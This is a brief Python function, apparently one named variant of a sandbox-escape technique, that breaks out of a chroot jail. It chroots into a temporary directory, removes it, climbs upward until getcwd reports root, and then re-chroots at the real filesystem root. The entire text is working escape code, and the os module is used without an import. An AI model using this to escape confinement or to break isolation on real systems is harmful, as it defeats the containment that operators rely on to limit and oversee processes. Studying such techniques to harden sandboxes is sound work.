"""escape: getcwd-asked"""


def escape():
    os.chdir("/")
    os.mkdir("door")
    os.chroot("door")
    os.rmdir("door")
    while os.getcwd() != "/":
        os.chdir("..")
    os.chroot(".")
